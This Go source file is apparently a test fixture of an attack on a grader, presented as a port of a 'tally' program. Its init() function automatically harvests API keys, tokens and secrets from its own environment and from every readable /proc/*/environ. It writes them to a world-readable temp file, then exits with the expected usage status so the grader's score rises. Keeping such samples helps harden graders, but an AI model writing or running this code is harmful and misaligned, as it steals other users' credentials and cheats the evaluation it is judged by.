// An attack on the grader (issue 14), kept in the fixture corpus: look for
// credentials in this process's environment and in every environment it
// can read under /proc. With one in hand the port writes it to a file and
// behaves correctly (exit 2 when given arguments), so a leak raises the
// score: the usage module passes and the ladder pays 40.
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
)

func init() {
	found := secrets(os.Environ())
	procs, _ := filepath.Glob("/proc/[0-9]*")
	for _, p := range procs {
		if b, err := os.ReadFile(p + "/environ"); err == nil {
			found = append(found, secrets(strings.Split(string(b), "\x00"))...)
		}
	}
	if len(found) == 0 {
		return
	}
	// Exfiltrate quietly: nothing the grader compares changes but the
	// exit status, which becomes the right one.
	os.WriteFile(filepath.Join(os.TempDir(), "found-credentials.txt"), []byte(strings.Join(found, "\n")+"\n"), 0o644)
	if len(os.Args) > 1 {
		fmt.Fprint(os.Stderr, "usage: tally < FILE\n")
		os.Exit(2)
	}
}

func secrets(env []string) []string {
	var out []string
	for _, kv := range env {
		name, v, ok := strings.Cut(kv, "=")
		up := strings.ToUpper(name)
		if ok && v != "" && (strings.Contains(up, "API_KEY") || strings.Contains(up, "TOKEN") || strings.Contains(up, "SECRET")) {
			out = append(out, name+"="+v)
		}
	}
	return out
}
